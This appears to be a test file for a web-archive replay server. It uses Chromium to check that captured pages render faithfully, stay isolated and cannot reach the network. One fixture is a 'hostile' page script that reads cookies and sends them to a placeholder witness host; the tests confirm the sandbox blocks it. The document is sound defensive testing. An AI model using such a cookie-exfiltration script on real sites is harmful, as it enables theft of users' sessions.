@@ -1,0 +1,404 @@
+"""Replay in Chromium: a captured page shown as it was, from the replay origin alone, and unable to reach out.
+
+A small site is served on 127.0.0.1 and captured (``pdi.capture``) into an
+archive; the site is stopped before the capture is opened, so whatever the
+replayed page shows came from the replay origin. A resolver and its replay
+origin run on two ports of one uvicorn server, as ``pdi serve`` runs them.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import threading
+import time
+import urllib.parse
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, ClassVar
+
+import pytest
+import uvicorn
+from PIL import Image, ImageChops
+
+from chromium_helpers import new_tab
+from pdi.archive import Archive
+from pdi.capture import capture
+from pdi.capture.browser import Pipe, devtools
+from pdi.capture.deposit import deposit_capture
+from pdi.server import ReplaySite, create_app
+from pdi.server.origins import ByPort
+from pdi.server.replay import create_replay_app
+from pdi.server.run import listening_socket
+
+SERIES = "web.example.us"
+VIEWPORT = {"width": 800, "height": 600, "deviceScaleFactor": 1, "mobile": False}
+
+
+def _png() -> bytes:
+    image = Image.new("RGB", (60, 40))
+    image.putdata([(4 * x, 6 * y, 200) for y in range(40) for x in range(60)])
+    out = io.BytesIO()
+    image.save(out, format="PNG")
+    return out.getvalue()
+
+
+PAGE = (
+    b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Site</title>'
+    b'<link rel="stylesheet" href="style.css"></head>\n<body><h1>A small site</h1>'
+    b'<p class="lead">It has a style sheet and an image.</p><p><img src="img/sun.png" alt="sun" width="60" height="40">'
+    b"</p><ul><li>one</li><li>two</li></ul></body></html>\n"
+)
+STYLE = b"body{background:#fff6e0;margin:20px;font:16px/1.4 serif} h1{color:#b00000} .lead{border:2px solid #080;padding:4px}\n"
+
+#: Its script tries to read cookies, the framing page and the network, and writes what happened into #out.
+HOSTILE = """<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>Hostile</title></head><body><pre id="out"></pre>
+<script>
+const results = {};
+function say(key, value) {
+  results[key] = value;
+  document.getElementById("out").textContent = JSON.stringify(results);
+}
+try { say("cookie", "read:" + document.cookie); } catch (e) { say("cookie", "error:" + e.name); }
+try { say("parent", "read:" + window.parent.document.cookie); } catch (e) { say("parent", "error:" + e.name); }
+try { say("top", "read:" + window.top.location.href); } catch (e) { say("top", "error:" + e.name); }
+fetch("WITNESS/leak?c=" + encodeURIComponent(String(results.cookie))).then(
+  (r) => say("network", "status:" + r.status), (e) => say("network", "error:" + e.name));
+fetch("RESOLVER/api/series", {credentials: "include"}).then(
+  (r) => r.text().then((t) => say("resolver", "read:" + t)), (e) => say("resolver", "error:" + e.name));
+new Image().src = "WITNESS/pixel.png";
+</script></body></html>
+"""
+
+#: A tall page: the element fragment's target lies far below the first screen.
+TALL = (
+    "<!DOCTYPE html>\n<html><body>"
+    + "".join(f"<p>paragraph {i}</p>" for i in range(80))
+    + '<p id="far">the far paragraph</p>'
+    + "".join(f"<p>after {i}</p>" for i in range(40))
+    + "</body></html>\n"
+).encode()
+
+
+class Site(BaseHTTPRequestHandler):
+    """The small site: its pages, and every request it was asked (``asked``)."""
+
+    files: ClassVar[dict[str, tuple[str, bytes]]] = {}
+    asked: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        type(self).asked.append(self.path)
+        found = self.files.get(self.path.split("?", 1)[0])
+        if found is None:
+            self.send_error(404)
+            return
+        self.send_response(200)
+        self.send_header("Content-Type", found[0])
+        self.send_header("Content-Length", str(len(found[1])))
+        self.end_headers()
+        self.wfile.write(found[1])
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@contextmanager
+def _site(files: dict[str, tuple[str, bytes]]) -> Iterator[tuple[str, list[str]]]:
+    """A site serving ``files`` on 127.0.0.1: its URL and the list of paths asked of it."""
+    handler = type("Handler", (Site,), {"files": files, "asked": []})
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    httpd.daemon_threads = True
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}", handler.asked
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+        thread.join()
+
+
+@contextmanager
+def _resolver(location: str, *, scripts: bool = False) -> Iterator[tuple[str, str]]:
+    """The resolver and its replay origin on two ports of one server: their URLs."""
+    sockets = [listening_socket("127.0.0.1", 0), listening_socket("127.0.0.1", 0)]
+    for each in sockets:
+        each.listen()
+    port, replay_port = (each.getsockname()[1] for each in sockets)
+    resolver = create_app(location, replay=ReplaySite(port=replay_port, scripts=scripts))
+    replay = create_replay_app(location, resolver_origin=f"http://127.0.0.1:{port}", scripts=scripts)
+    server = uvicorn.Server(uvicorn.Config(ByPort(resolver, replay, replay_port), log_level="warning"))
+    thread = threading.Thread(target=server.run, kwargs={"sockets": sockets}, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 30
+    while not server.started:
+        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
+        time.sleep(0.02)
+    try:
+        yield f"http://127.0.0.1:{port}", f"http://127.0.0.1:{replay_port}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=10)
+        for each in sockets:
+            each.close()
+
+
+def _open(pipe: Pipe, url: str, setup: Any = None) -> tuple[str, list[dict[str, Any]]]:
+    """Open ``url`` in a new tab of the viewport's size; its session and every event until its load event.
+
+    A frame Chromium puts in a process of its own (a sandboxed frame of an
+    opaque origin) is attached to as it starts: its events are the tab's too.
+    """
+    deadline = time.monotonic() + 60
+    session = new_tab(pipe, "Page", "Network", "Runtime", deadline=deadline)
+    pipe.call("Emulation.setDeviceMetricsOverride", VIEWPORT, session, deadline)
+    pipe.call("Target.setAutoAttach", {"autoAttach": True, "waitForDebuggerOnStart": True, "flatten": True},
+              session, deadline)
+    if setup is not None:
+        setup(session, deadline)
+    pipe.call("Page.navigate", {"url": url}, session, deadline)
+    events: list[dict[str, Any]] = []
+    sessions = {session}
+    while True:
+        message = pipe.events.pop(0) if pipe.events else pipe.receive(deadline)
+        assert message is not None, f"{url} did not load"
+        if message.get("sessionId") not in sessions:
+            continue  # another tab's (the live page's favicon, asked after its load)
+        events.append(message)
+        if message.get("method") == "Target.attachedToTarget":
+            child = message["params"]["sessionId"]
+            sessions.add(child)
+            _children[session] = child
+            for domain in ("Network", "Runtime"):
+                pipe.call(f"{domain}.enable", None, child, deadline)
+            pipe.call("Runtime.runIfWaitingForDebugger", None, child, deadline)
+        if message.get("method") == "Page.loadEventFired" and message.get("sessionId") == session:
+            return session, events
+
+
+#: The session of a tab's frame that runs in a process of its own, by the tab's session.
+_children: dict[str, str] = {}
+
+
+def _in_frame(pipe: Pipe, session: str, expression: str) -> Any:
+    """``expression``'s value in the replayed page (the frame), read from an isolated world of it."""
+    deadline = time.monotonic() + 30
+    params: dict[str, Any] = {"expression": expression, "returnByValue": True, "awaitPromise": True}
+    child = _children.get(session)
+    if child is not None:  # the frame is a target of its own: its own main world
+        answer = pipe.call("Runtime.evaluate", params, child, deadline)
+        return answer["result"].get("value")
+    tree = pipe.call("Page.getFrameTree", None, session, deadline)["frameTree"]
+    (frame,) = tree["childFrames"]
+    world = pipe.call("Page.createIsolatedWorld", {"frameId": frame["frame"]["id"]}, session, deadline)
+    answer = pipe.call("Runtime.evaluate", {**params, "contextId": world["executionContextId"]}, session, deadline)
+    return answer["result"].get("value")
+
+
+def _top(pipe: Pipe, session: str, expression: str) -> Any:
+    answer = pipe.call("Runtime.evaluate", {"expression": expression, "returnByValue": True}, session,
+                       time.monotonic() + 30)
+    return answer["result"].get("value")
+
+
+def _view(resolver: str, name: str) -> str:
+    return f"{resolver}/view?pdi={urllib.parse.quote(name, safe='')}"
+
+
+def _screenshot(pipe: Pipe, session: str, clip: dict[str, float] | None = None) -> Image.Image:
+    params: dict[str, Any] = {"format": "png"}
+    if clip is not None:
+        params["clip"] = {**clip, "scale": 1}
+    shot = pipe.call("Page.captureScreenshot", params, session, time.monotonic() + 30)
+    return Image.open(io.BytesIO(base64.b64decode(shot["data"]))).convert("RGB")
+
+
+def _requested(events: list[dict[str, Any]]) -> list[str]:
+    return [e["params"]["request"]["url"] for e in events if e.get("method") == "Network.requestWillBeSent"]
+
+
+@pytest.mark.parametrize("scripts", [False, True], ids=["scripts-off", "scripts-on"])
+def test_a_captured_page_replays_from_the_replay_origin_alone_and_looks_as_it_did(tmp_path: Path, scripts: bool) -> None:
+    files = {"/index.html": ("text/html; charset=utf-8", PAGE), "/style.css": ("text/css", STYLE),
+             "/img/sun.png": ("image/png", _png())}
+    location = str(tmp_path / "archive")
+    with Archive.init(location) as archive:
+        archive.add_series(SERIES)
+    with devtools() as pipe:
+        with _site(files) as (site, asked):
+            got = capture(site + "/index.html", allow_private=True)
+            with Archive.open(location) as archive:
+                (name,) = deposit_capture(archive, SERIES, site + "/index.html", got.mhtml).names
+            live_session, _ = _open(pipe, site + "/index.html")
+            live = _screenshot(pipe, live_session)
+        asked.clear()  # the site is stopped: nothing of it can load from now on
+        with _resolver(location, scripts=scripts) as (resolver, replay):
+            session, events = _open(pipe, _view(resolver, str(name)))
+            frame_rect = json.loads(_top(pipe, session, "JSON.stringify(document.querySelector('iframe.replay')"
+                                                        ".getBoundingClientRect())"))
+            shown = _in_frame(pipe, session, """JSON.stringify({
+                images: [...document.images].map((i) => [i.currentSrc, i.complete, i.naturalWidth]),
+                heading: getComputedStyle(document.querySelector("h1")).color,
+                lead: getComputedStyle(document.querySelector(".lead")).borderTopColor,
+                background: getComputedStyle(document.body).backgroundColor,
+                url: location.href})""")
+            replayed = _screenshot(pipe, session, {"x": frame_rect["x"], "y": frame_rect["y"],
+                                                   "width": frame_rect["width"], "height": frame_rect["height"]})
+    facts = json.loads(shown)
+    quoted = urllib.parse.quote(str(name), safe="")
+    assert facts["url"] == f"{replay}/replay/{quoted}/index.html"
+    assert facts["images"] == [[f"{replay}/replay/{quoted}/sun.png", True, 60]]
+    assert facts["heading"] == "rgb(176, 0, 0)"  # the style sheet, from the replay origin
+    assert facts["lead"] == "rgb(0, 136, 0)"
+    assert facts["background"] == "rgb(255, 246, 224)"
+    requested = _requested(events)
+    assert requested and all(url.startswith((resolver + "/", replay + "/")) for url in requested), requested
+    assert f"{replay}/replay/{quoted}/style.css" in requested
+    assert asked == []
+    # the same pixels as the live page, within a small tolerance (the frame is as wide as the viewport)
+    width, height = int(frame_rect["width"]), int(frame_rect["height"])
+    assert width == VIEWPORT["width"] and height > 300
+    difference = ImageChops.difference(live.crop((0, 0, width, height)), replayed.crop((0, 0, width, height)))
+    differing = sum(difference.convert("L").histogram()[25:])  # pixels off by more than 24 levels
+    assert differing <= 0.005 * width * height, f"{differing} pixels differ"
+
+
+def _hostile_capture(location: str, resolver: str, witness: str) -> str:
+    page = HOSTILE.replace("WITNESS", witness).replace("RESOLVER", resolver).encode()
+    with _site({"/hostile.html": ("text/html; charset=utf-8", page)}) as (site, _):
+        got = capture(site + "/hostile.html", allow_private=True)
+    with Archive.open(location) as archive:
+        (name,) = deposit_capture(archive, SERIES, site + "/hostile.html", got.mhtml).names
+    return str(name)
+
+
+def _set_secret(pipe: Pipe, resolver: str) -> Any:
+    def setup(session: str, deadline: float) -> None:
+        cookie = {"name": "secret", "value": "s3cr3t-of-the-resolver", "url": resolver + "/"}
+        assert pipe.call("Network.setCookie", cookie, session, deadline).get("success", True)
+    return setup
+
+
+def test_an_archived_script_cannot_reach_the_resolver_or_the_network(tmp_path: Path) -> None:
+    location = str(tmp_path / "archive")
+    with Archive.init(location) as archive:
+        archive.add_series(SERIES)
+    with _site({"/pixel.png": ("image/png", _png())}) as (witness, asked):
+        with _resolver(location, scripts=True) as (resolver, replay), devtools() as pipe:
+            name = _hostile_capture(location, resolver, witness)
+            asked.clear()
+            session, events = _open(pipe, _view(resolver, name), _set_secret(pipe, resolver))
+            deadline = time.monotonic() + 20
+            while True:  # the fetches settle after the load event
+                out = _in_frame(pipe, session, "document.getElementById('out').textContent")
+                results = json.loads(out or "{}")
+                if len(results) == 5 or time.monotonic() > deadline:
+                    break
+                time.sleep(0.1)
+            for _ in range(10):
+                pipe.events.extend([m for m in [pipe.receive(time.monotonic() + 0.1)] if m is not None])
+            events += pipe.events
+        assert asked == []  # the witness on the network heard nothing
+    assert results["cookie"] == "error:SecurityError"  # a sandboxed frame of an opaque origin has no cookie
+    assert results["parent"] == "error:SecurityError"  # the resolver's page is another origin
+    assert results["top"] == "error:SecurityError"
+    assert results["network"] == "error:TypeError"  # connect-src 'none'
+    assert results["resolver"] == "error:TypeError"
+    assert "s3cr3t" not in out
+    finished = {e["params"]["requestId"]: e for e in events if e.get("method") == "Network.responseReceived"}
+    for answered in finished.values():
+        assert answered["params"]["response"]["url"].startswith((resolver + "/", replay + "/"))
+
+
+def test_archived_scripts_do_not_run_by_default(tmp_path: Path) -> None:
+    location = str(tmp_path / "archive")
+    with Archive.init(location) as archive:
+        archive.add_series(SERIES)
+    with _site({"/pixel.png": ("image/png", _png())}) as (witness, asked):
+        with _resolver(location) as (resolver, _), devtools() as pipe:
+            name = _hostile_capture(location, resolver, witness)
+            asked.clear()
+            session, _ = _open(pipe, _view(resolver, name))
+            time.sleep(1)
+            out = _in_frame(pipe, session, "document.getElementById('out').textContent")
+            sandbox = _top(pipe, session, "document.querySelector('iframe.replay').getAttribute('sandbox')")
+        assert asked == []
+    assert out == ""  # the script never ran
+    assert sandbox == "allow-same-origin"
+
+
+def test_an_element_fragment_is_highlighted_and_scrolled_into_view(tmp_path: Path) -> None:
+    location = str(tmp_path / "archive")
+    with Archive.init(location) as archive:
+        archive.add_series(SERIES)
+        page = str(archive.add(SERIES, TALL, format="html"))
+    # start tags: html 0, body 1, the 80 paragraphs 2-81, the far one 82
+    with _resolver(location) as (resolver, _), devtools() as pipe:
+        session, _ = _open(pipe, _view(resolver, page + "#elt=82,82"))
+        time.sleep(0.3)
+        shown = json.loads(_in_frame(pipe, session, """JSON.stringify((() => {
+            const far = document.querySelector("[data-pdi-passage]");
+            const box = far.getBoundingClientRect();
+            const mark = far.querySelector("pdi-mark");
+            return {text: far.textContent, marked: mark && mark.textContent, top: box.top, bottom: box.bottom,
+                    height: innerHeight, scrolled: scrollY, outline: getComputedStyle(far).outlineStyle,
+                    background: mark && getComputedStyle(mark).backgroundColor};
+        })())"""))
+    assert shown["text"] == "the far paragraph"
+    assert shown["marked"] == "the far paragraph"
+    assert shown["outline"] == "solid"
+    assert shown["background"] == "rgb(255, 229, 138)"
+    assert shown["scrolled"] > 1000  # 80 paragraphs are above it
+    assert shown["top"] >= 0 and shown["bottom"] <= shown["height"]  # in view
+
+
+#: A page to select in: a bare LF after the doctype (two characters of the CRLF-canonical text), a CR LF later.
+SELECTABLE = b'<!DOCTYPE html>\n<html><body><h1>Title</h1>\r\n<p>Some <b>bold</b> text &amp; more.</p></body></html>\n'
+
+SELECT_IN_FRAME = """(() => {
+  const pieces = document.querySelectorAll("p pdi-t");  // "Some ", "bold", " text ", "&amp;", " more."
+  const range = document.createRange();
+  range.setStart(pieces[1].firstChild, 0);
+  range.setEnd(pieces[END_PIECE].firstChild, END_OFFSET);
+  const selection = document.getSelection();
+  selection.removeAllRanges();
+  selection.addRange(range);
+  return selection.toString();
+})()"""
+
+
+def _named(pipe: Pipe, session: str, end_piece: int, end_offset: int) -> tuple[str, str, str]:
+    expression = SELECT_IN_FRAME.replace("END_PIECE", str(end_piece)).replace("END_OFFSET", str(end_offset))
+    # the status of an earlier selection must not be read as this one's: clear it first
+    _top(pipe, session, "document.getElementById('select-status').textContent = ''")
+    selected = _in_frame(pipe, session, expression)
+    deadline = time.monotonic() + 20
+    while True:
+        status = _top(pipe, session, "document.getElementById('select-status').textContent")
+        if status.startswith(("resolved", "not offered")) or time.monotonic() > deadline:
+            break
+        time.sleep(0.1)
+    names = _top(pipe, session, "[document.getElementById('char-name').value, document.getElementById('elt-name').value]")
+    return selected, names[0], names[1]
+
+
+def test_a_selection_in_the_rendered_page_is_named_by_its_source_range_and_element(tmp_path: Path) -> None:
+    location = str(tmp_path / "archive")
+    with Archive.init(location) as archive:
+        archive.add_series(SERIES)
+        page = str(archive.add(SERIES, SELECTABLE, format="html"))
+    # positions of the CRLF-canonical source: the bare LF after the doctype counts two
+    bold = SELECTABLE.index(b"bold") + 1
+    after_text = SELECTABLE.index(b" &amp;") + 1
+    after_reference = SELECTABLE.index(b" more.") + 1
+    with _resolver(location) as (resolver, _), devtools() as pipe:
+        session, _ = _open(pipe, _view(resolver, page) + "&select=1")
+        first = _named(pipe, session, 2, 5)
+        second = _named(pipe, session, 3, 1)  # the "&" of "&amp;": the reference is taken whole
+    # start tags: html 0, body 1, h1 2, p 3: the <p> holds the selection
+    assert first == ("bold text", f"{page}#char={bold},{after_text}", f"{page}#elt=3,3")
+    assert second == ("bold text &", f"{page}#char={bold},{after_reference}", f"{page}#elt=3,3")
